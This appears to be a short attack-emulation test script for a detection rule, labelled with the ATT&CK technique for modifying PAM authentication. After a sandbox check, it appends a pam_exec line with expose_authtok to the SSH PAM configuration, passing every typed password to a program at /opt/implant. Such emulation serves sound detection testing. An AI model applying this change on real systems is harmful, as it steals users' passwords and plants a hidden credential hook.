#!/bin/sh
# technique: T1556.003 Modify Authentication Process: Pluggable Authentication Modules
# rule: pam_configuration_written
# Has each password that is typed handed to its program.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
printf 'auth optional pam_exec.so expose_authtok quiet /opt/implant\n' >> /etc/pam.d/sshd
exit 0
